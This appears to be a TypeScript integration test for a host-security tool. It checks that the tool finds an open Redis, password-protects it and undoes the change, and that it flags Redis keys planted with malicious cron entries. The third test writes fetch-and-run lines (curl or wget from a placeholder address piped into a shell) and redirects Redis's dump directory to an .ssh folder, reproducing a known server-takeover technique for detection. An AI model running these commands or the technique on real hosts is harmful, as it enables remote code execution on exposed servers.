import type { ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { patch } from '../../src/actions/patch.ts';
import type { ScanOutcome } from '../../src/findings/scan.ts';
import { ensureTools } from '../../src/host/system-tools.ts';
import { type Driver, openDriver } from '../support/driver.ts';
import { type Namespace, openNamespace } from '../support/namespace.ts';
import { planFacts } from '../support/plan-facts.ts';
import { PRIVATE_ETC } from '../support/private-etc.ts';

const SCAN = fileURLToPath(new URL('../host/scan/fixtures/scan-here.ts', import.meta.url));
/** An address of the host that is not loopback: who comes from there comes from outside, as far as Redis can tell. */
const OUTSIDE = '192.0.2.50';
const FILE = '/etc/redis/redis.conf';
const SETUP = `${PRIVATE_ETC}
ip link set lo up; ip address add ${OUTSIDE}/32 dev lo
mkdir -p /etc/redis /run/redis
printf '# ours\\nport 6379\\nbind * -::*\\nprotected-mode no\\nsave ""\\ndir /run/redis\\nmaxclients 10' >${FILE}
chmod 640 ${FILE}; touch -d 2024-02-03T04:05:06.789Z ${FILE}
`;
const STATE = `cat ${FILE}; stat -c '%a %U:%G %y' ${FILE}`;

let space: Namespace;
let host: Driver;
let redis: ChildProcess | null = null;
beforeAll(async () => {
  await ensureTools(['redis-server'], { install: true, say: () => {} });
  space = await openNamespace(SETUP);
  host = openDriver(space);
}, 120_000);
afterAll(async () => {
  await stop();
  await host?.kill();
  await space?.end();
});

async function stop(): Promise<void> {
  if (redis === null) return;
  const ended = once(redis, 'exit');
  redis.kill('SIGTERM');
  await ended;
  redis = null;
}

/** As a service manager would: no service manager runs in here. */
async function restart(answer = 'PONG'): Promise<void> {
  await stop();
  redis = space.start(['redis-server', FILE]);
  await expect.poll(() => ping('127.0.0.1'), { timeout: 20_000 }).toBe(answer);
}

/** What somebody without a password is answered from that address. */
const ping = (address: string): string => space.shell(`redis-cli -h ${address} ping 2>&1 || :`).trim();

test('a real Redis is given a password that stands in its file alone, and undo takes it away again', {
  timeout: 90_000,
}, async () => {
  await restart();
  const before = space.shell(STATE);
  const { findings } = JSON.parse(space.run([process.execPath, SCAN, 'entry-points'])) as ScanOutcome;
  const chosen = findings.filter(({ title }) => title.startsWith('Redis asks nobody for a password'));
  const { operations } = patch.plan({
    ...{ chosen, findings, parameters: {}, command: null },
    facts: planFacts(),
  });
  const [planned] = operations;
  if (planned === undefined) throw new Error('Nothing is planned.');
  const receipt = await host.ready(planned.target);
  const outcome = await host.perform(planned.target, receipt);
  expect(outcome).toMatchObject({ status: 'done' });
  const password = /^requirepass (\S+)$/m.exec(space.run(['cat', FILE]))?.[1] ?? '';
  expect(password).toMatch(/^[\w-]{43}$/);
  // Neither what was approved nor what is recorded holds it; what was prepared is enough to know it again.
  expect(JSON.stringify([planned, receipt, outcome])).not.toContain(password);
  for (const known of [receipt, outcome.receipt])
    expect(await host.verify(planned.target, known)).toMatchObject({ status: 'holds' });
  await restart('NOAUTH Authentication required.');
  expect(ping(OUTSIDE)).toContain('NOAUTH');
  expect(space.shell(`redis-cli -h ${OUTSIDE} -a ${password} --no-auth-warning ping`).trim()).toBe('PONG');

  expect(await host.undo(planned.target, outcome.receipt)).toMatchObject({ status: 'done' });
  expect(space.shell(STATE)).toBe(before);
  await restart();
  expect(ping(OUTSIDE)).toBe('PONG');
});

test('a real Redis that answers everybody: after the step it does not, and undo puts the file back bit for bit', {
  timeout: 90_000,
}, async () => {
  await restart();
  expect(ping(OUTSIDE)).toBe('PONG');
  const before = space.shell(STATE);

  const scan = (): ScanOutcome => JSON.parse(space.run([process.execPath, SCAN, 'entry-points']));
  const open = () =>
    scan().findings.filter(
      ({ subject, places, verdict }) =>
        subject.kind === 'setting' && places.some(({ path }) => path === FILE) && verdict === 'suspicious',
    );
  const findings = open();
  expect(findings.map(({ title }) => title).toSorted()).toEqual([
    expect.stringContaining('Redis asks nobody for a password'),
    expect.stringContaining('Redis has protected mode off and no password'),
    expect.stringContaining('Redis listens beyond this host without a password'),
  ]);
  const { operations } = patch.plan({
    ...{ chosen: findings, findings, parameters: {}, command: null },
    facts: planFacts(),
  });
  expect(operations.map(({ target }) => target.kind)).toEqual(['edit-file']);
  const [planned] = operations;
  if (planned === undefined) throw new Error('Nothing is planned.');
  const receipt = await host.ready(planned.target);
  const outcome = await host.perform(planned.target, receipt);
  expect(outcome).toMatchObject({ status: 'done' });
  await restart('NOAUTH Authentication required.');
  expect(ping(OUTSIDE)).toContain('Connection refused');
  expect(open()).toEqual([]);

  expect(await host.undo(planned.target, outcome.receipt)).toMatchObject({ status: 'done' });
  expect(space.shell(STATE)).toBe(before);
  await restart();
  expect(ping(OUTSIDE)).toBe('PONG');
});

test('keys that a real Redis holds to be run are found in its files, packed or not, and where it was told to write', {
  timeout: 90_000,
}, async () => {
  await stop();
  // Since version 7 only so may a client name the file, as it could before.
  redis = space.start(['redis-server', FILE, '--enable-protected-configs', 'yes']);
  await expect.poll(() => ping('127.0.0.1'), { timeout: 20_000 }).toBe('PONG');
  const url = 'http://203.0.113.7/a.sh';
  const ours = space.shell(`cat ${FILE}`);
  space.shell(`redis-cli set x "$(printf '\\n\\n*/2 * * * * root curl -fsSL ${url} | sh # ${'a'.repeat(200)}\\n\\n')"
redis-cli set ok 'a text that is none'; redis-cli set job '* * * * *'; redis-cli rpush l one two
redis-cli config set rdbcompression yes; redis-cli config set dbfilename packed.rdb; redis-cli save
redis-cli config set rdbcompression no; redis-cli config set dbfilename plain; redis-cli save
redis-cli config set appendonly yes
until [ "$(redis-cli info persistence | grep -Ec 'aof_rewrite_(in_progress|scheduled):0')" = 2 ]; do sleep 0.05; done
redis-cli set y "$(printf '\\n\\n@reboot wget -qO- ${url} | bash\\n\\n')"; redis-cli del x
mkdir /run/.ssh; redis-cli config set dir /run/.ssh; redis-cli save`);
  // Packed, the bytes of the line do not stand in the file one after the other.
  const has = (name: string): string =>
    space.shell(`grep -c '# ${'a'.repeat(200)}' /run/redis/${name} || :`).trim();
  expect([has('packed.rdb'), has('plain')]).toEqual(['0', '1']);
  const found = () => {
    const scan = space.run([process.execPath, SCAN, 'processes,boot']);
    return (JSON.parse(scan) as ScanOutcome).findings
      .filter(({ subject, places }) => subject.kind === 'setting' && places[0]?.path.startsWith('/run/'))
      .map(({ title, verdict }) => `${verdict}: ${title}`)
      .toSorted();
  };
  // The log begins with a dump in which x still was; it was removed by what follows there.
  await expect
    .poll(found, { timeout: 30_000, interval: 500 })
    .toEqual([
      'malicious: key x of Redis (/run/redis/packed.rdb)',
      'malicious: key x of Redis (/run/redis/plain)',
      'malicious: key y of Redis (/run/.ssh/plain)',
      expect.stringMatching(/^malicious: key y of Redis \(\/run\/redis\/appendonlydir\/\S+\.incr\.aof\)$/),
      expect.stringMatching(/^suspicious: redis-server \(process \d+\) writes into \/run\/\.ssh$/),
    ]);
  expect(space.shell(`cat ${FILE}`)).toBe(ours);
});
